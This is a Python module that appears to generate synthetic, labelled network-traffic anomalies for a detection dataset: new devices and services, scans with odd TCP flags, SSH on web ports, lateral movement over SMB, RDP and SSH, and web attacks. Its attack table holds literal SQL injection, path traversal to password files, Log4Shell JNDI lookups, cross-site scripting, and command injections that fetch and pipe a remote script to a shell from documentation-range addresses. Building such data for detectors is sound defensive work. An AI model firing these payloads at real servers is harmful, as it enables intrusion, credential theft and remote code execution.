"""What is new or does not fit: newcomers, odd protocols and flags, attacks on web servers, moves from host to host."""

from __future__ import annotations

import numpy as np

from amiss.datasets.network.office import ask
from amiss.datasets.network.site import Place
from amiss.datasets.network.timing import by_people, by_the_clock, heavy
from amiss.datasets.network.words import hex_of, word_of

__all__ = ["lateral_movement", "newcomer", "odd_protocol", "web_attack"]


def newcomer(place: Place, variant: str) -> None:
    """Who or what was not there before: a device, a service of a known host, a peer, a server of leases or names."""
    random, site, sheet = place.random, place.site, place.sheet
    begin = place.begin + place.span * float(random.uniform(0.4, 0.8))
    new, host = site.free(random, 3)[2], str(random.choice(site.people))
    number = place.number(host)
    if variant == "device":
        with sheet.about("newcomer", variant, new, [site.one("gateway")]):
            _device(place, new, begin)
    elif variant == "service":
        others = [one for one in site.people if one != host]
        at = np.sort(random.uniform(begin, place.end, int(random.integers(5, 40))))
        port = int(random.choice([21, 8000, 5900, 3306, 1080]))
        with sheet.about("newcomer", variant, host, others):
            sheet.tcp(at, random.choice(place.numbers(others), len(at)), number, port, heavy(random, 400, 0.6, len(at)),
                      heavy(random, 5000, 1.2, len(at)))  # fmt: skip
    elif variant == "peer":
        at = np.sort(random.uniform(begin, place.end, int(random.integers(3, 30))))
        peer = place.stranger()
        with sheet.about("newcomer", variant, host, [peer]):
            sheet.tcp(at, number, place.number(peer), int(random.choice([6667, 9001, 8333, 5938])),
                      heavy(random, 800, 0.8, len(at)), heavy(random, 3000, 1, len(at)))  # fmt: skip
    elif variant == "dhcp_server":
        at = np.sort(random.uniform(begin, place.end, int(random.integers(3, 25))))
        with sheet.about("newcomer", variant, new, ["255.255.255.255"]):
            sheet.udp(at, place.number(new), place.number("255.255.255.255"), 68, 300, src_port=67, service="dhcp")
    else:
        at = by_people(random, begin, place.end, 60)
        at = at if len(at) > 20 else np.sort(random.uniform(begin, place.end, 40))
        names = [site.sites[int(i)].names[0] for i in random.integers(0, len(site.sites), len(at))]
        with sheet.about("newcomer", variant, new, [host]):
            sheet.dns(at, number, place.number(new), names)


def _device(place: Place, new: str, begin: float) -> None:
    """Joins, asks who is there, then does what devices do."""
    random, sheet, number = place.random, place.sheet, place.number(new)
    server = place.number(place.site.one("gateway"))
    sheet.udp(begin, place.number("0.0.0.0"), place.number("255.255.255.255"), 67, 300, src_port=68, service="dhcp")
    sheet.udp(begin + 2, number, server, 67, 300, 300, src_port=68, service="dhcp")
    sheet.arp(begin + 2.1, number, server)
    at = np.sort(random.uniform(begin + 3, place.end, int(random.integers(10, 80))))
    sites = [place.site.sites[int(i)] for i in random.integers(0, 60, len(at))]
    ask(place, number, at, [one.names[0] for one in sites])
    sheet.tcp(at, number, place.numbers([one.addresses[0] for one in sites]), 443, heavy(random, 1500, 0.8, len(at)),
              heavy(random, 9000, 1.5, len(at)), service="tls", name=[one.names[0] for one in sites])  # fmt: skip


def odd_protocol(place: Place, variant: str) -> None:
    """Flags that no system sends, protocols on the ports of others, packets from a host to itself."""
    random, site, sheet = place.random, place.site, place.sheet
    host = place.stranger() if random.random() < 0.3 else str(random.choice(site.people))
    target = site.one(str(random.choice(["web", "mail", "files", "directory"])))
    flags = {"null": 0, "fin": 1, "xmas": 41, "syn_fin": 3}
    if variant in flags:
        n = int(random.integers(5, 120))
        begin, end = place.stretch(2, 600)
        at = np.sort(random.uniform(begin, end, n))
        ports = random.permutation(np.arange(1, 1024))[:n]
        with sheet.about("odd_protocol", variant, host, [target]):
            # Closed ports refuse these too; open ones are silent.
            state = random.choice(["REJ", "S0"], n, p=[0.9, 0.1])
            sheet.tcp(at, place.number(host), place.number(target), ports, state=list(state), flags=flags[variant])
    elif variant == "land":
        begin, end = place.stretch(1, 120)
        at = np.sort(random.uniform(begin, end, int(random.integers(3, 60))))
        with sheet.about("odd_protocol", variant, target, [target]):
            sheet.tcp(at, place.number(target), place.number(target), 139, state="S0", src_port=139)
    else:
        inside = str(random.choice(site.people))
        peer = place.stranger()
        at = np.sort(random.uniform(place.begin, place.end, int(random.integers(1, 12))))
        lasts = random.lognormal(5, 1.2, len(at))
        port = {"ssh_on_443": 443, "ssh_on_80": 80, "http_on_odd": int(random.integers(20_000, 60_000))}[variant]
        with sheet.about("odd_protocol", variant, inside, [peer]):
            if variant == "http_on_odd":
                name = f"{word_of(random)}.example"
                sheet.http(at, place.number(inside), place.number(peer), port, host=[name] * len(at),
                           path=[f"/{word_of(random)}" for _ in at], agent="curl/8.5")  # fmt: skip
            else:
                sheet.tcp(at, place.number(inside), place.number(peer), port, 2500 + lasts * 20, 3500 + lasts * 90,
                          segment_out=80, segment_in=300, duration=lasts, service="ssh")  # fmt: skip


_ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": (
        "id=1%27%20OR%20%271%27%3D%271",
        "id=-1+UNION+SELECT+{n},user,password+FROM+users--+",
        "id=1;WAITFOR+DELAY+%270:0:{n}%27--",
        "q=%27%29+AND+SLEEP%28{n}%29--+",
        "id=1+AND+ORD(MID((SELECT+{n}),1,1))>64",
        "name=admin%27--",
        "id={n}+order+by+{n}--",
        "id=1%27+AND+EXTRACTVALUE({n},CONCAT(0x5c,version()))--+",
    ),
    "traversal": (
        "file=../../../../etc/passwd",
        "page=..%2f..%2f..%2f..%2fetc%2fshadow",
        "f=....//....//etc/hosts&n={n}",
        "path=..%5c..%5c..%5cwindows%5cwin.ini",
        "doc=%252e%252e%252fetc%252fpasswd",
        "img=/../../boot.ini",
    ),
    "jndi": (
        "x=${{jndi:ldap://203.0.113.{m}/a{n}}}",
        "x=${{jndi:dns://{n}.probe.example/}}",
        "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.{m}%3A1389%2Fb%7D",
        "x=${{${{lower:j}}ndi:ldap://192.0.2.{m}/{n}}}",
    ),
    "command": (
        "host=127.0.0.1;cat+/etc/passwd",
        "cmd=%3Bwget+http://192.0.2.{m}/x.sh+-O-%7Csh",
        "ip=1.1.1.1%7Cid&n={n}",
        "name=$(curl+http://203.0.113.{m}/{n})",
        "dir=`uname+-a`",
        "exec=/bin/sh+-c+id",
    ),
    "xss": (
        "q=%3Cscript%3Ealert({n})%3C/script%3E",
        "q=%22%3E%3Cimg+src=x+onerror=alert({n})%3E",
        "name=<svg/onload=alert({n})>",
        "u=javascript:alert({n})",
    ),
}
"""What is sent to make a server do what it should not; {n} and {m} are drawn."""


def web_attack(place: Place, variant: str) -> None:
    """Requests that carry commands of another language: in the path, in the agent's name, or in what is posted."""
    random, site = place.random, place.site
    host = place.stranger() if random.random() < 0.6 else str(random.choice(site.people))
    n = int(random.integers(4, 150))
    begin, end = place.stretch(10, 3600)
    at = np.sort(random.uniform(begin, end, n))
    parts = [
        _ATTACKS[variant][int(i)].format(n=random.integers(2, 999), m=random.integers(1, 255))
        for i in random.integers(0, len(_ATTACKS[variant]), n)
    ]
    where = random.choice(["path", "agent", "body"], n, p=[0.3, 0.6, 0.1] if variant == "jndi" else [0.75, 0, 0.25])
    pages = [str(page) for page in random.choice(["/search", "/item.php", "/login", "/view", "/api/list"], n)]
    own = str(random.choice(["Mozilla/5.0", "curl/8.5", "python-requests/2.31", f"tool-{hex_of(random, 1, 4)[0]}/1.7"]))
    web = site.one("web")
    with place.sheet.about("web_attack", variant, host, [web]):
        place.sheet.http(
            at,
            place.number(host),
            place.number(web),
            80,
            host=["intranet.example"] * n,
            path=[f"{page}?{part}" if w == "path" else page for page, part, w in zip(pages, parts, where, strict=True)],
            agent=[part if w == "agent" else own for part, w in zip(parts, where, strict=True)],
            body=[part if w == "body" else "" for part, w in zip(parts, where, strict=True)],
            method=["POST" if w == "body" else "GET" for w in where],
            status=random.choice([200, 403, 404, 500], n, p=[0.4, 0.2, 0.2, 0.2]),
            into=heavy(random, 1500, 0.8, n, 1e6),
        )


def lateral_movement(place: Place, variant: str) -> None:
    """One host that suddenly logs in to many others inside: by shares, remote desktop or SSH."""
    random, site, sheet = place.random, place.site, place.sheet
    host = str(random.choice(site.people))
    others = [str(one) for one in random.permutation([one for one in site.people if one != host])]
    targets = others[: int(random.integers(min(6, len(others)), min(30, len(others)) + 1))]
    begin, end = place.stretch(300, 3600)
    times = np.sort(random.uniform(begin, end, len(targets)))
    port, service = {"smb": (445, "smb"), "rdp": (3389, "rdp"), "ssh": (22, "ssh")}[variant]
    with sheet.about("lateral_movement", variant, host, targets):
        for at, target in zip(times, place.numbers(targets), strict=True):
            n = int(random.integers(1, 5))
            tries = by_the_clock(random, at, min(at + 120, place.end + 120), 120 / n, 0.8)
            reached = random.random() < 0.8
            sheet.tcp(tries, place.number(host), int(target), port, heavy(random, 9000, 1.3, len(tries), 2e7),
                      heavy(random, 5000, 1, len(tries), 1e7), service=service, state="SF" if reached else "REJ",
                      duration=random.exponential(60, len(tries)))  # fmt: skip
